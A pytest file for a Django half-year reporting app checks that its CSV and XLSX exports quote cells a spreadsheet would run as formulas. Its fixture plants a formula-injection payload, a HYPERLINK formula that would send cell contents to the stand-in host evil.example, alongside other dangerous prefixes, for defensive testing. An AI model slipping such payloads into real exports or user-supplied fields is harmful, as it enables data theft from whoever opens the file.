"""CSV and XLSX: the same data as the PDF, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from apps.halfyear.exports import csv_bytes, xlsx_bytes
from apps.halfyear.services import form_sign, form_submit
from apps.halfyear.snapshot import form_data
from apps.organisation.demo import load_organisation
from apps.reporting.reports import defuse_formula
from tests.halfyear.helpers import complete_every_row, h1_form

pytestmark = pytest.mark.django_db
DANGEROUS = ('=HYPERLINK("http://x")', "+47 999", "-2+3", "@SUM(A1)", "\tTAB", "\rCR")


@pytest.mark.parametrize("value", DANGEROUS)
def test_text_that_could_start_a_formula_is_quoted(value: str) -> None:
    assert defuse_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["NAV Østensjø", "25–29", "", "'quoted", 12, -3, None])
def test_other_cells_are_left_alone(value: object) -> None:
    assert defuse_formula(value) == value


@pytest.fixture
def signed_with_dangerous_names():  # type: ignore[no-untyped-def]
    """A signed form whose office and staff have names a spreadsheet would run as formulas."""
    users = load_organisation()
    office = users["spesialist"].office
    office.name = '=HYPERLINK("http://evil.example/?x="&A1)'
    office.save()
    users["spesialist"].first_name, users["spesialist"].last_name = "@SUM(1+1)", "-Nilsen"
    users["spesialist"].save()
    users["teamleder"].first_name, users["teamleder"].last_name = "+Per", "Hansen"
    users["teamleder"].save()
    form = h1_form(users)
    complete_every_row(form, users["spesialist"])
    form_submit(form=form, actor=users["spesialist"])
    return form_sign(form=form, actor=users["teamleder"])


def _csv_cells(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_the_csv_escapes_and_holds_the_figures_and_the_rows(signed_with_dangerous_names) -> None:  # type: ignore[no-untyped-def]
    form = signed_with_dangerous_names
    lines = _csv_cells(csv_bytes(form_data(form)))
    cells = [cell for line in lines for cell in line]
    assert "'" + '=HYPERLINK("http://evil.example/?x="&A1)' in cells
    assert "'@SUM(1+1) -Nilsen" in cells
    assert "'+Per Hansen" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert lines[0][0] == "Halvårsrapport"
    assert ["Deltakere", "Deltakere ved starten av halvåret", "1", ""] in lines
    header = lines.index(next(line for line in lines if line[:2] == ["Rad", "Tiltak"]))
    assert [line[0] for line in lines[header + 1 :]] == ["1", "2"]


def test_the_xlsx_escapes_and_has_no_formula(signed_with_dangerous_names) -> None:  # type: ignore[no-untyped-def]
    form = signed_with_dangerous_names
    workbook = load_workbook(io.BytesIO(xlsx_bytes(form_data(form))))
    assert workbook.sheetnames == ["Tall", "Deltakere"]
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    values.append(cell.value)
    assert "'" + '=HYPERLINK("http://evil.example/?x="&A1)' in values
    assert "'+Per Hansen" in values
    assert not [value for value in values if value[:1] in ("=", "+", "-", "@")]
    rows = workbook["Deltakere"]
    assert [rows.cell(row=n, column=1).value for n in (2, 3)] == [1, 2]
